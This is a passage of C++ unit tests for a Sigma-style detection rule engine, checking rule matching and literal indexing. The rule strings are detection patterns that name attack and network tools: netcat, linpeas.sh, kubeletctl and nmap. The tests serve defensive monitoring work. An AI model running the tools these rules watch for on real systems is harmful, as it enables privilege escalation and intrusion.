  EXPECT_TRUE(Fires("process_creation", interpreter, Exec("/usr/bin/node", {"node"})));
  EXPECT_EQ(Evaluations(interpreter, {Exec("/usr/bin/ls", {"ls"}), Exec("/usr/bin/python3.11", {"python3"})}), 1u);
  // Case-insensitive, inline flags, non-ASCII, or no literal at all: not
  // indexed (evaluated on every exec), and still matching.
  for (const auto& [detection, image] : std::vector<std::pair<std::string, std::string>>{
           {"  sel:\n    Image|re|i: '/NC$'\n  condition: sel\n", "/bin/nc"},
           {"  sel:\n    Image|re: '(?i)/NC$'\n  condition: sel\n", "/bin/nc"},
           {"  sel:\n    Image|re: '/\u00c9t\u00e9$'\n  condition: sel\n", "/tmp/\u00c9t\u00e9"},
           {"  sel:\n    Image|re: '^/[a-z]+$'\n  condition: sel\n", "/x"}}) {
    SCOPED_TRACE(detection);
    EXPECT_TRUE(Fires("process_creation", detection, Exec(image, {"x"})));
    EXPECT_EQ(Evaluations(detection, {Exec("/usr/bin/ls", {"ls"}), Exec("/bin/id", {"id"})}), 2u);
  }
}

// An OR whose parts test different fields indexes the rule under each
// field: evaluated when any of them holds its literal.
TEST(RulesMatch, LiteralIndexSpansFields) {
  const std::string tool =
      "  selection_image:\n    Image|endswith: /linpeas.sh\n  selection_cmdline:\n"
      "    CommandLine|contains: kubeletctl\n  condition: 1 of selection_*\n";
  EXPECT_TRUE(Fires("process_creation", tool, Exec("/tmp/linpeas.sh", {"linpeas.sh"})));
  EXPECT_TRUE(Fires("process_creation", tool, Bash({"./kubeletctl", "pods"})));
  EXPECT_EQ(Evaluations(tool, {Bash({"ls"}), Exec("/usr/bin/id", {"id"})}), 0u);
  // A part that needs nothing keeps the rule on every event.
  const std::string open = "  a:\n    Image|endswith: /nmap\n  b:\n    Uid: 0\n  condition: a or b\n";
  EXPECT_EQ(Evaluations(open, {Bash({"ls"})}), 1u);
}

}  // namespace
}  // namespace vigil
